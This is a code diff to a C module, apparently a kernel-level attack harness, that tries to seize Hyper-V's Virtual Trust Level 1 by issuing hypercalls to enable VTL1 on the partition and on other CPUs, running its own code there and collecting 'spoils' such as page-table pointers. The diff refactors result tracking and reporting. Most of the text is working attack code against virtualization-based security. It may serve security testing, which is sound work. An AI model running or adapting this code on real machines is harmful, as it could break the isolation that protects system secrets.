@@ -12,8 +12,6 @@
 #include "attack.h"
 
 #define HVCALL_ENABLE_PARTITION_VTL 0x000d
-#define HVCALL_ENABLE_VP_VTL_	    0x000f
-#define HVCALL_START_PROCESSOR	    0x0099
 
 /* attack_entry.S: VTL1 begins there. It reads what is below, and fills in the spoils. */
 void attack_entry(void);
@@ -22,10 +20,10 @@ extern struct attack_spoils attack_entry_spoils;
 
 static u8 stack[1024] __aligned(16);
 
-/* How the tries ended; the last is the one that counts. */
+/* How the tries ended: results of hypercalls. */
 static struct {
-	u64 partition, partition_vtl2, enable, enable_others, start;
-	bool done, entered;
+	u64 partition, partition_vtl2, enable, start;
+	bool done, entered, other; /* another CPU was enabled, or started */
 } tries;
 
 u64 attack_own_rsp(void)
@@ -99,13 +97,14 @@ const struct attack_spoils *attack_take_over(void)
 	void *call_stub = attack_vtl_call_stub();
 	unsigned long flags;
 	int cpu;
+	u32 vp;
 
 	if (!tries.done) {
 		tries.done = true;
 		attack_entry_return = (u64)attack_vtl_return_stub();
 		local_irq_save(flags); /* on one CPU, and with its page tables */
 		tries.partition = enable_partition(1);
-		tries.enable = start(HVCALL_ENABLE_VP_VTL_, HV_VP_INDEX_SELF);
+		tries.enable = start(HVCALL_ENABLE_VP_VTL, HV_VP_INDEX_SELF);
 		if (hv_result_success(tries.enable))
 			enter(call_stub);
 		tries.entered = attack_entry_spoils.cr3;
@@ -116,33 +115,29 @@ const struct attack_spoils *attack_take_over(void)
 		{
 			if (tries.entered || cpu == smp_processor_id())
 				continue;
-			tries.enable_others =
-				start(HVCALL_ENABLE_VP_VTL_, hv_cpu_number_to_vp_number(cpu));
-			tries.start =
-				start(HVCALL_START_PROCESSOR, hv_cpu_number_to_vp_number(cpu));
+			vp = hv_cpu_number_to_vp_number(cpu);
+			tries.other |= hv_result_success(start(HVCALL_ENABLE_VP_VTL, vp));
+			tries.start = start(HVCALL_START_VP, vp);
+			tries.other |= hv_result_success(tries.start);
 		}
 		local_irq_restore(flags);
 	}
 	return tries.entered ? &attack_entry_spoils : NULL;
 }
 
+/* Without an owner: the attacker's own code has run in VTL1. */
 bool attack_start(struct attack_story *story)
 {
-	const bool entered = attack_take_over();
-	bool through = entered;
+	const bool entered = attack_take_over(), several = num_online_cpus() > 1;
 
-	if (entered) {
+	if (entered)
 		attack_tell(story, "VTL1 was free: own code ran in it");
-		return true;
-	}
-	through = hv_result_success(tries.enable) || hv_result_success(tries.partition_vtl2);
-	if (num_online_cpus() > 1)
-		through = through || hv_result_success(tries.enable_others) ||
-			  hv_result_success(tries.start);
-	attack_tell(story, "hypercalls: enabling VTL1 %s, on this CPU %s; VTL2 %s%s%s",
-		    attack_status(tries.partition), attack_status(tries.enable),
-		    attack_status(tries.partition_vtl2),
-		    num_online_cpus() > 1 ? "; starting another CPU " : "",
-		    num_online_cpus() > 1 ? attack_status(tries.start) : "");
-	return through;
+	else
+		attack_tell(story, "hypercalls: enabling VTL1 %s, here %s; VTL2 %s%s%s",
+			    attack_status(tries.partition), attack_status(tries.enable),
+			    attack_status(tries.partition_vtl2),
+			    several ? "; starting another CPU " : "",
+			    several ? attack_status(tries.start) : "");
+	return entered || hv_result_success(tries.enable) ||
+	       hv_result_success(tries.partition_vtl2) || tries.other;
 }
